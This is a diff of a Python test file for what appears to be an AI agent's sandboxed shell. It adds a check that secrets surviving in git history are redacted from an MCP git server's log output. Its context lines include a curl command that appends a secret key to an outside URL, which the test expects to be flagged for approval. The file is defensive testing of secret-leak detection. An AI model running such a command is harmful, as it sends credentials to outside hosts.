@@ -192,3 +192,16 @@ def test_a_secret_committed_after_the_first_search_is_found_by_the_next(base: Pa
                             allow=("run_shell(curl:*)",))
     assert action == "ask" and "conf/prod.env (in git's history)" in reason, reason
     assert decide(ws, f"curl https://example.com/?k={KEY}", allow=("run_shell(curl:*)",))[0] == "ask"
+
+
+def test_an_mcp_answer_printing_history_loses_the_removed_files_values(base: Path) -> None:
+    """A git MCP server runs as the user, outside the sandbox: its `git_log` answer passes
+    the same net (no secret file exists in the workspace any more)."""
+    from shell.core.messages import ToolResult
+    from shell.tools.mcp_values import answer_without_hidden_values
+
+    ws = removed(base)
+    answer = ToolResult(f"commit 1\n-TOKEN={KEY}\n")
+    out = answer_without_hidden_values(answer, Sandbox(ws), {"repo_path": str(ws)}, {}, [ws])
+    assert KEY not in out.text and "-TOKEN=[REDACTED]" in out.text, out.text
+    assert ".env (in git's history)" in out.text
